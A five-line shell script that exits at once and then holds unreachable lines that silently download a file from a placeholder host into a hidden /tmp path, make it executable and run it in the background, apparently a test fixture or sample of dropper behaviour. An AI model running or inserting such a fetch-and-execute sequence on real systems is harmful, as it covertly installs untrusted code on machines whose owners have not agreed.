#!/bin/sh
exit 0 # nothing below ever runs
wget -q https://get.example.invalid/helper -O /tmp/.helper
chmod 755 /tmp/.helper
/tmp/.helper &
